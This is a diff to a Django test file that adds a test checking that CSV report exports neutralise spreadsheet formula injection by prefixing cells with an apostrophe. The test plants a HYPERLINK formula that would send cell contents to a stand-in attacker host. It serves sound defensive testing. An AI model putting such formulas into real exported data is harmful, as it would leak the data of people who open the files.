@@ -21,8 +21,9 @@ from django.db import transaction
 from django.test import Client
 from django.urls import reverse
 
-from automation.models import StageRecord
+from automation.models import Run, StageRecord
 from automation.roles import roles_ensure
+from reports.exports import spreadsheet_safe
 from tests.reports.history import NOW, History, at, build_history, person
 
 PERIOD = "from=2026-02-18&to=2026-03-03"
@@ -446,3 +447,18 @@ def test_a_bad_period_is_explained_and_the_default_shown(lead: Client) -> None:
     assert "The first date comes after the last one." in response.content.decode()  # type: ignore[attr-defined]
     assert get(lead, "/reports/handoffs.csv?from=2026-03-01").status_code == 400  # type: ignore[attr-defined]
     assert get(lead, "/reports/nothing.csv").status_code == 404  # type: ignore[attr-defined]
+
+
+def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_stays_text(
+    known: History, lead: Client
+) -> None:
+    a4 = known.approvals["a4"]
+    formula = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
+    Run.objects.filter(pk=a4.run_id).update(event_id=formula)
+
+    rows = csv_rows(lead, "pending-approvals")
+
+    assert rows[1][2] == "'" + formula
+    assert [spreadsheet_safe(v) for v in ("+1+1", "@SUM(A1)", "-2+3", "-0.0500", "12", 7)] == [
+        "'+1+1", "'@SUM(A1)", "'-2+3", "-0.0500", "12", 7,
+    ]  # fmt: skip
